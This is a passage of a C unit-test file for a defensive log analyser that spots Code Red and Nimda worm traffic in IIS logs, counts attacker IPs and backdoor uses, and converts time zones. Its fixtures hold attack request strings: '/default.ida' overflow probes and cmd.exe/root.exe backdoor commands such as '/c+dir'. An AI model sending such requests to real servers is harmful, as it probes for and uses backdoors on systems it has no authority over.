  r.backdoor_use = rs_iislog_is_backdoor_use(stem, query, status);
  return r;
}

START_TEST(logagg_basic)
{
  struct rs_logagg *a = rs_logagg_new();
  ck_assert_ptr_nonnull(a);
  const int64_t t0 = 995500000; /* 2001-07-19 */
  struct rs_logrec rs[] = {
    mkrec("192.0.2.20", "/default.ida", padded('N', CR_TAIL), 404, t0 + 50, "a.log", 5),
    mkrec("192.0.2.10", "/default.ida", padded('N', CR_TAIL), 404, t0 + 10, "a.log", 2),
    mkrec("192.0.2.10", "/default.ida", padded('X', CR_TAIL), 200, t0 + 20, "a.log", 3),
    mkrec("192.0.2.30", "/scripts/root.exe", "/c+dir", 200, t0 + 30, "b.log", 9),
    mkrec("192.0.2.30", "/c/winnt/system32/cmd.exe", "/c+dir", 502, t0 + 30, "a.log", 7),
    mkrec("192.0.2.20", "/default.ida", padded('N', CR_TAIL), 404, t0 + 5, "a.log", 1),
  };
  for (size_t i = 0; i < sizeof rs / sizeof rs[0]; i++)
    rs_logagg_add(a, &rs[i]);
  const struct rs_family_stats *f = rs_logagg_family(a, RS_FAM_CODERED1);
  ck_assert_uint_eq(f->hits, 3);
  ck_assert_uint_eq(f->status_4xx, 3);
  ck_assert_int_eq(f->first.sec, t0 + 5);
  ck_assert_int_eq(f->last.sec, t0 + 50);
  f = rs_logagg_family(a, RS_FAM_NIMDA);
  ck_assert_uint_eq(f->hits, 2);
  ck_assert_uint_eq(f->status_2xx, 1);
  ck_assert_uint_eq(f->status_5xx, 1);

  const struct rs_attacker *at;
  size_t na = rs_logagg_attackers(a, &at);
  ck_assert_uint_eq(na, 3);
  /* hits desc, then IP: .10 (2), .20 (2), .30 (2) -> by IP */
  ck_assert_str_eq(at[0].ip, "192.0.2.10");
  ck_assert_str_eq(at[1].ip, "192.0.2.20");
  ck_assert_str_eq(at[2].ip, "192.0.2.30");
  ck_assert_uint_eq(at[0].fam_hits[RS_FAM_CODERED1], 1);
  ck_assert_uint_eq(at[0].fam_hits[RS_FAM_CODERED2], 1);
  ck_assert_int_eq(at[1].first.sec, t0 + 5);
  ck_assert_int_eq(at[1].last.sec, t0 + 50);

  /* more hits after sorting: the index must still find old entries */
  struct rs_logrec extra = mkrec("192.0.2.30", "/scripts/root.exe", "/c+dir", 404, t0, "b.log", 1);
  rs_logagg_add(a, &extra);
  na = rs_logagg_attackers(a, &at);
  ck_assert_uint_eq(na, 3);
  ck_assert_str_eq(at[0].ip, "192.0.2.30");
  ck_assert_uint_eq(at[0].hits, 3);

  const struct rs_backdoor_use *bd;
  size_t nb = rs_logagg_backdoor_uses(a, &bd);
  ck_assert_uint_eq(nb, 2);
  /* same second: file order a.log before b.log */
  ck_assert_str_eq(bd[0].file, "a.log");
  ck_assert_uint_eq(bd[0].line, 7);
  ck_assert_int_eq(bd[0].status, 502);
  ck_assert_str_eq(bd[0].request, "GET /c/winnt/system32/cmd.exe /c+dir");
  ck_assert_str_eq(bd[1].request, "GET /scripts/root.exe /c+dir");
  uint64_t da, db;
  rs_logagg_dropped(a, &da, &db);
  ck_assert_uint_eq(da + db, 0);
  rs_logagg_free(a);
  rs_logagg_free(NULL);
}
END_TEST

START_TEST(logagg_many_ips)
{
  struct rs_logagg *a = rs_logagg_new();
  char ip[32];
  for (int i = 0; i < 20000; i++) {
    snprintf(ip, sizeof ip, "10.%d.%d.%d", (i >> 16) & 255, (i >> 8) & 255, i & 255);
    struct rs_logrec r = mkrec(ip, "/default.ida", NULL, 404, 995500000 + i, "x.log", 1);
    rs_logagg_add(a, &r);
    if (i % 3 == 0)
      rs_logagg_add(a, &r);
  }
  const struct rs_attacker *at;
  ck_assert_uint_eq(rs_logagg_attackers(a, &at), 20000);
  ck_assert_uint_eq(at[0].hits, 2);
  ck_assert_str_eq(at[0].ip, "10.0.0.0");
  ck_assert_uint_eq(at[19999].hits, 1);
  ck_assert_uint_eq(rs_logagg_family(a, RS_FAM_CODERED_UNKNOWN)->hits, 20000 + 6667);
  rs_logagg_free(a);
}
END_TEST

/* Past RS_LOGAGG_MAX_ATTACKERS distinct IPs the table keeps a hash sample:
 * the same whatever the order the records (and two workers' partial
 * aggregates) arrive in, kept IPs' counts exact, every hit accounted for.
 * IP i sends 1 + i % 3 hits. */
static void feed_ips(struct rs_logagg *a, int from, int to, int step)
{
  char ip[32];
  for (int i = from; i != to; i += step) {
    snprintf(ip, sizeof ip, "10.%d.%d.%d", (i >> 16) & 255, (i >> 8) & 255, i & 255);
    for (int k = 0; k <= i % 3; k++) {
      struct rs_logrec r = mkrec(ip, "/default.ida", NULL, 404, 995500000 + i, "x.log", 1);
      rs_logagg_add(a, &r);
    }
  }
}

START_TEST(logagg_sample_is_order_free)
{
  enum { N = 250000 };
  struct rs_logagg *fwd = rs_logagg_new(), *rev = rs_logagg_new();
  feed_ips(fwd, 0, N, 1);
  /* reversed, in two halves merged the other way round */
  struct rs_logagg *h1 = rs_logagg_new(), *h2 = rs_logagg_new();
  feed_ips(h1, N - 1, N / 2 - 1, -1);
  feed_ips(h2, N / 2 - 1, -1, -1);
  rs_logagg_merge(rev, h2);
  rs_logagg_merge(rev, h1);
  const struct rs_attacker *a, *b;
  size_t na = rs_logagg_attackers(fwd, &a), nb = rs_logagg_attackers(rev, &b);
  ck_assert_uint_le(na, RS_LOGAGG_MAX_ATTACKERS);
  ck_assert_uint_gt(na, RS_LOGAGG_MAX_ATTACKERS / 4);
  ck_assert_uint_ge(rs_logagg_sample_level(fwd), 1);
  ck_assert_uint_eq(rs_logagg_sample_level(fwd), rs_logagg_sample_level(rev));
  ck_assert_uint_eq(na, nb);
  uint64_t kept = 0;
  for (size_t i = 0; i < na; i++) {
    ck_assert_str_eq(a[i].ip, b[i].ip);
    ck_assert_uint_eq(a[i].hits, b[i].hits);
    unsigned x, y, z;
    ck_assert_int_eq(sscanf(a[i].ip, "10.%u.%u.%u", &x, &y, &z), 3);
    unsigned idx = x << 16 | y << 8 | z;
    ck_assert_uint_eq(a[i].hits, 1 + idx % 3); /* exact */
    kept += a[i].hits;
  }
  uint64_t da, db, ra, rb;
  rs_logagg_dropped(fwd, &da, &db);
  rs_logagg_dropped(rev, &ra, &rb);
  ck_assert_uint_eq(da, ra);
  uint64_t total = rs_logagg_family(fwd, RS_FAM_CODERED_UNKNOWN)->hits, want = 0;
  for (int i = 0; i < N; i++)
    want += 1 + (uint64_t)(i % 3);
  ck_assert_uint_eq(total, want);
  ck_assert_uint_eq(kept + da, total);
  rs_logagg_free(fwd);
  rs_logagg_free(rev);
  rs_logagg_free(h1);
  rs_logagg_free(h2);
}
END_TEST

/* Past RS_LOGAGG_MAX_BACKDOOR uses, the earliest are kept (by time, file,
 * line), whatever the order they come in; the rest are counted. */
START_TEST(logagg_backdoor_keeps_earliest)
{
  enum { N = RS_LOGAGG_MAX_BACKDOOR * 5 / 2 };
  struct rs_logagg *a = rs_logagg_new();
  for (int k = 0; k < N; k++) {
    int i = (int)(((long long)k * 7919) % N); /* a permutation of 0..N-1 */
    struct rs_logrec r = mkrec("192.0.2.1", "/scripts/root.exe", "/c+dir", 200,
                               995500000 + i, "b.log", (uint64_t)i + 1);
    rs_logagg_add(a, &r);
  }
  const struct rs_backdoor_use *u;
  size_t n = rs_logagg_backdoor_uses(a, &u);
  ck_assert_uint_eq(n, RS_LOGAGG_MAX_BACKDOOR);
  for (size_t i = 0; i < n; i++)
    ck_assert_uint_eq(u[i].line, i + 1);
  uint64_t da, db;
  rs_logagg_dropped(a, &da, &db);
  ck_assert_uint_eq(db, (uint64_t)N - RS_LOGAGG_MAX_BACKDOOR);
  rs_logagg_free(a);
}
END_TEST

/* ------------------------------------------------------ time zones */

static const struct {
  int y, mo, d, h, mi, s;
  const char *want;
} eastern_cases[] = {
  {2001, 4, 1, 1, 59, 59, "2001-04-01T06:59:59Z"},  /* first Sunday of April 2001 = Apr 1 */
  {2001, 4, 1, 3, 0, 0, "2001-04-01T07:00:00Z"},
  {2001, 7, 19, 12, 0, 0, "2001-07-19T16:00:00Z"},
  {2001, 10, 28, 0, 59, 59, "2001-10-28T04:59:59Z"}, /* last Sunday of Oct 2001 = Oct 28 */
  {2001, 10, 28, 2, 0, 0, "2001-10-28T07:00:00Z"},
  {2001, 10, 21, 12, 0, 0, "2001-10-21T16:00:00Z"},  /* 3rd Sunday, still DST */
  {2001, 12, 25, 12, 0, 0, "2001-12-25T17:00:00Z"},
  {2002, 4, 7, 1, 0, 0, "2002-04-07T06:00:00Z"},     /* 2002: first Sunday = Apr 7 */
  {2002, 4, 7, 3, 0, 0, "2002-04-07T07:00:00Z"},
};

START_TEST(tz_eastern)
{
  struct rs_tz tz = eastern();
  struct rs_time l = rs_time_from_civil(eastern_cases[_i].y, eastern_cases[_i].mo,
                                        eastern_cases[_i].d, eastern_cases[_i].h,
                                        eastern_cases[_i].mi, eastern_cases[_i].s);
  bool conv = false;
  struct rs_time u = rs_tz_local_to_utc(&tz, l, &conv);
  ck_assert(conv);
  ck_assert_str_eq(iso(&u), eastern_cases[_i].want);
}
END_TEST

START_TEST(tz_other)
{
  bool conv = true;
  struct rs_time l = rs_time_from_civil(2001, 7, 19, 9, 0, 0);
  /* unknown zone: unchanged, not converted */
  struct rs_tz unk;
  memset(&unk, 0, sizeof unk);
  struct rs_time u = rs_tz_local_to_utc(&unk, l, &conv);
  ck_assert(!conv);
  ck_assert_int_eq(u.sec, l.sec);
  u = rs_tz_local_to_utc(NULL, l, &conv);
  ck_assert(!conv);
  char desc[128];
  rs_tz_describe(NULL, desc, sizeof desc);
  ck_assert_ptr_nonnull(strstr(desc, "not converted"));

  /* no DST (Tokyo, Bias -540) */
  struct rs_tz tok;
  memset(&tok, 0, sizeof tok);
  tok.known = true;
  tok.bias = -540;
  u = rs_tz_local_to_utc(&tok, l, &conv);
  ck_assert(conv);
  ck_assert_str_eq(iso(&u), "2001-07-19T00:00:00Z");
  rs_tz_describe(&tok, desc, sizeof desc);
  ck_assert_ptr_nonnull(strstr(desc, "UTC+09:00"));
  ck_assert_ptr_nonnull(strstr(desc, "no DST"));

  /* southern hemisphere (Sydney 2001: DST last Sun Oct 02:00 -> last Sun Mar 03:00) */
  struct rs_tz syd;
  memset(&syd, 0, sizeof syd);
  syd.known = true;
  syd.bias = -600;
  syd.daylight_bias = -60;
  syd.daylight_start = (struct rs_systemtime){0, 10, 0, 5, 2, 0, 0, 0};
  syd.standard_start = (struct rs_systemtime){0, 3, 0, 5, 3, 0, 0, 0};
  u = rs_tz_local_to_utc(&syd, rs_time_from_civil(2001, 1, 15, 12, 0, 0), &conv);
  ck_assert_str_eq(iso(&u), "2001-01-15T01:00:00Z");
  u = rs_tz_local_to_utc(&syd, rs_time_from_civil(2001, 7, 15, 12, 0, 0), &conv);
  ck_assert_str_eq(iso(&u), "2001-07-15T02:00:00Z");

  /* day 5 = last: February 2001 has four Sundays, the last is the 25th */
  struct rs_tz feb;
  memset(&feb, 0, sizeof feb);
  feb.known = true;
  feb.bias = 0;
  feb.daylight_bias = -60;
  feb.daylight_start = (struct rs_systemtime){0, 2, 0, 5, 0, 0, 0, 0};
  feb.standard_start = (struct rs_systemtime){0, 11, 0, 1, 0, 0, 0, 0};
  u = rs_tz_local_to_utc(&feb, rs_time_from_civil(2001, 2, 24, 12, 0, 0), &conv);
  ck_assert_str_eq(iso(&u), "2001-02-24T12:00:00Z");
  u = rs_tz_local_to_utc(&feb, rs_time_from_civil(2001, 2, 25, 12, 0, 0), &conv);
  ck_assert_str_eq(iso(&u), "2001-02-25T11:00:00Z");

  /* SYSTEMTIME from its 16 little-endian bytes */
  const uint8_t b[16] = {0, 0, 10, 0, 0, 0, 5, 0, 2, 0, 0, 0, 0, 0, 0, 0};
  struct rs_systemtime st;
  rs_systemtime_from_bytes(b, &st);
  ck_assert_uint_eq(st.year, 0);
  ck_assert_uint_eq(st.month, 10);
  ck_assert_uint_eq(st.dow, 0);
  ck_assert_uint_eq(st.day, 5);
  ck_assert_uint_eq(st.hour, 2);

  struct rs_tz e = eastern();
  rs_tz_describe(&e, desc, sizeof desc);
  ck_assert_ptr_nonnull(strstr(desc, "UTC-05:00"));
  ck_assert_ptr_nonnull(strstr(desc, "UTC-04:00"));
  ck_assert_ptr_nonnull(strstr(desc, "last Sun Oct"));
}
END_TEST

void rs_iislog_prefilter_tcase(Suite *s); /* check_iislog_prefilter.c */

Suite *rs_suite_iislog(void)
{
  Suite *s = suite_create("iislog");
  TCase *tc = tcase_create("real");
  tcase_add_loop_test(tc, real_logs, 0, sizeof real_cases / sizeof real_cases[0]);
  tcase_add_test(tc, real_field_order);
  suite_add_tcase(s, tc);

  tc = tcase_create("classify");
  tcase_add_loop_test(tc, classify_nimda_probes, 0, 16);
  tcase_add_loop_test(tc, classify_table, 0, sizeof ccases / sizeof ccases[0]);
  tcase_add_test(tc, classify_codered);
  tcase_add_loop_test(tc, backdoor_table, 0, sizeof bd_cases / sizeof bd_cases[0]);
  suite_add_tcase(s, tc);

  tc = tcase_create("parse");
  tcase_set_timeout(tc, 60);
  tcase_add_loop_test(tc, chunk_invariance, 0, sizeof chunks / sizeof chunks[0]);
  tcase_add_test(tc, long_and_binary_lines);
  tcase_add_test(tc, w3c_dates);
  tcase_add_test(tc, w3c_second_header);
  tcase_add_test(tc, w3c_user_agent_spaces);
  tcase_add_test(tc, iis_native_tz);
  tcase_add_test(tc, ncsa_offset);
  tcase_add_test(tc, garbage_only);
  suite_add_tcase(s, tc);
  rs_iislog_prefilter_tcase(s);

  tc = tcase_create("aggregate");
  tcase_add_test(tc, logagg_basic);
  tcase_add_test(tc, logagg_many_ips);
  tcase_add_test(tc, logagg_sample_is_order_free);
  tcase_add_test(tc, logagg_backdoor_keeps_earliest);
  suite_add_tcase(s, tc);

  tc = tcase_create("tz");
  tcase_add_loop_test(tc, tz_eastern, 0, sizeof eastern_cases / sizeof eastern_cases[0]);
  tcase_add_test(tc, tz_other);
  suite_add_tcase(s, tc);
  return s;
}
